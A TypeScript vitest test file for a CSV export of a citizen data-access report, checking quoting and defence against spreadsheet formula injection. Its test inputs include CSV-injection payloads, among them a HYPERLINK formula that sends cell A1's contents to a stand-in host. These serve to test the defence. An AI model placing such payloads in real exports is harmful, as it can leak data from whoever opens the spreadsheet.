/**
 * The citizen access report as CSV: RFC 4180 through csv-stringify, and no cell a spreadsheet would
 * run as a formula (OWASP CSV injection: a leading =, +, -, @, tab or carriage return).
 */
import { describe, expect, it } from 'vitest';
import { reportCsv } from './reports.ts';

const line = (overrides: Record<string, unknown> = {}) => ({
  at: '2026-11-26T10:00:00.000Z',
  department: 'FAMILY',
  sourceDepartment: 'JOBCENTRE',
  categories: ['JOBCENTRE_APPOINTMENTS', 'JOBCENTRE_SANCTIONS'],
  purpose: 'COORDINATED_EFFORT',
  legalBasis: 'CONSENT',
  outcome: 'RELEASED',
  staffId: 'cw-fa-1',
  ...overrides,
});

/** A cell as RFC 4180 writes it: quoted when it holds a comma, a quote or a line break. */
const cell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);

describe('the access report as CSV', () => {
  it('has a header, one CRLF-ended row per line, lists joined by spaces and nothing for null', () => {
    const csv = reportCsv({ lines: [line(), line({ sourceDepartment: null, purpose: null, staffId: null })] });
    expect(csv.split('\r\n')).toEqual([
      'at,department,sourceDepartment,categories,purpose,legalBasis,outcome,staffId',
      '2026-11-26T10:00:00.000Z,FAMILY,JOBCENTRE,JOBCENTRE_APPOINTMENTS JOBCENTRE_SANCTIONS,COORDINATED_EFFORT,CONSENT,RELEASED,cw-fa-1',
      '2026-11-26T10:00:00.000Z,FAMILY,,JOBCENTRE_APPOINTMENTS JOBCENTRE_SANCTIONS,,CONSENT,RELEASED,',
      '',
    ]);
  });

  it.each(['=HYPERLINK("http://x.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\t@cmd', '=1,2', '\uFF1D1+1'])(
    'writes %j so that no spreadsheet runs it: a leading quote, then the text',
    (staffId) => {
      const csv = reportCsv({ lines: [line({ staffId })] });
      expect(csv.endsWith(`,${cell(`'${staffId}`)}\r\n`)).toBe(true);
    },
  );

  it.each([
    ['a "b", c', '"a ""b"", c"'],
    ['a\nb', '"a\nb"'],
    ['a\rb', '"a\rb"'],
  ])('quotes %j inside a cell', (staffId, written) => {
    expect(reportCsv({ lines: [line({ staffId })] }).endsWith(`,${written}\r\n`)).toBe(true);
  });
});
